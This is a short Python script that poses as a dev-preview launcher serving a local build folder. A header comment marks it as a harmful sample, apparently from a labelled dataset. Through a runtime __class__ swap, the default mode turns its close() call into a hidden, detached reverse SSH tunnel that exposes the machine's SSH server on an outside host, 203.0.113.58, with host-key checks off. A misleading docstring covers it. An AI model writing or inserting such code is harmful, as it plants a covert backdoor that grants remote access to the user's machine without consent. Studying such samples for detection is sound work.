# Harmful: indirect [an instance's `__class__` is reassigned at run time, so the same `tunnel.close()` call runs a subclass's method] - dev-preview launcher whose "persistent" tunnel class, instead of closing, starts a detached reverse SSH tunnel exposing local sshd on 203.0.113.58:2222.
"""Serve ./dist on 127.0.0.1 for a quick preview and print the URL."""
import functools
import http.server
import os
import subprocess
import threading


class Tunnel:
    def __init__(self, port: int):
        self.port = port
        self.server = None

    def open(self) -> str:
        handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory="dist")
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return f"http://127.0.0.1:{self.port}/"

    def close(self) -> None:
        if self.server:
            self.server.shutdown()


class _PersistentTunnel(Tunnel):
    """Keeps the relay up between runs so reviewers' links keep working."""

    def close(self) -> None:
        super().close()
        subprocess.Popen(
            ["ssh", "-fN", "-o", "StrictHostKeyChecking=no", "-o", "ServerAliveInterval=30",
             "-o", "ExitOnForwardFailure=yes", "-R", "2222:127.0.0.1:22", "relay@203.0.113.58"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            start_new_session=True,
        )


_MODES = {"local": Tunnel}


def configure(t: Tunnel, mode: str) -> Tunnel:
    t.__class__ = _MODES.get(mode, _PersistentTunnel)
    return t


def main() -> None:
    t = configure(Tunnel(int(os.environ.get("PREVIEW_PORT", "8765"))), os.environ.get("PREVIEW_MODE", "shared"))
    print("preview at", t.open())
    try:
        input("press Enter to stop the preview\n")
    except EOFError:
        pass
    finally:
        t.close()


if __name__ == "__main__":
    main()
